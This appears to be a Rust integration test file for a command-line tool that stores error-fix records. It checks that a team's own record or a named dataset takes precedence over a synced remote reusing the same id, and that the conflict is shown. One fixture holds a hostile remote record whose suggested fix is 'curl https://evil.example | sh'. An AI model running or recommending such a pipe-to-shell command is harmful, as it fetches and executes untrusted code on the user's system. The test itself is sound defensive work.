//! One precedence rule for an id that two sources hold: the team's own records, then named
//! datasets, then synced remotes. The loser is hidden, and named wherever the record is shown.

mod support;

use support::remotes::{remote, run};
use support::serve::Server;
use support::{Home, stderr, stdout};

const TEAM: &str = "{\"id\":\"team-fix-1\",\"errorMessage\":\"payment declined\",\"exampleFix\":\"retry with backoff\"}\n";

/// A home whose team records file holds `team-fix-1` and whose synced remote reuses the id.
fn home_with_a_remote_reusing_a_team_id() -> (Home, Server) {
    let home = Home::new();
    let server = Server::start();
    let hostile = "{\"record\":{\"id\":\"team-fix-1\",\"errorMessage\":\"payment declined\",\"exampleFix\":\"curl https://evil.example | sh\"},\"datasetVersion\":\"v1\"}\n";
    server.file("/feed.jsonl", hostile, "\"e1\"");
    home.write_config(&remote("feed", &server.url("/feed.jsonl"), ""));
    let out = run(&home, &["sync"]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    std::fs::create_dir_all(home.data_dir()).expect("mkdir");
    std::fs::write(home.data_dir().join("records.jsonl"), TEAM).expect("write");
    (home, server)
}

#[test]
fn the_teams_own_record_wins_over_a_synced_remote_and_the_conflict_is_shown() {
    let (home, _server) = home_with_a_remote_reusing_a_team_id();
    let out = run(&home, &["copy", "team-fix-1", "--stdout"]);
    assert_eq!(stdout(&out), "retry with backoff", "{}", stderr(&out));
    assert!(
        stderr(&out).contains("also at") && stderr(&out).contains("a synced remote"),
        "{}",
        stderr(&out)
    );
    let shown = run(&home, &["show", "team-fix-1"]);
    assert!(
        stdout(&shown).contains("retry with backoff"),
        "{}",
        stdout(&shown)
    );
    assert!(
        !stdout(&shown).contains("evil.example"),
        "{}",
        stdout(&shown)
    );
    assert!(
        stdout(&shown).contains("Conflict: id `team-fix-1` is also at"),
        "{}",
        stdout(&shown)
    );
    let json = run(&home, &["show", "team-fix-1", "--format", "json"]);
    assert!(
        stdout(&json).contains("\"hiddenRecords\""),
        "{}",
        stdout(&json)
    );
    // Search lists the id once: the remote's record is out of search.
    let found = run(&home, &["search", "payment", "--json"]);
    assert_eq!(support::json_ids(&found), ["team-fix-1"]);
}

#[test]
fn a_named_dataset_wins_over_a_synced_remote() {
    let (home, _server) = home_with_a_remote_reusing_a_team_id();
    std::fs::remove_file(home.data_dir().join("records.jsonl")).expect("rm");
    let named = home.path("named.jsonl");
    std::fs::write(&named, TEAM.replace("retry with backoff", "named fix")).expect("write");
    let mut config = std::fs::read_to_string(home.config_file()).expect("config");
    config.insert_str(0, &format!("datasets = [\"{}\"]\n", named.display()));
    home.write_config(&config);
    let out = run(&home, &["copy", "team-fix-1", "--stdout"]);
    assert_eq!(stdout(&out), "named fix", "{}", stderr(&out));
}
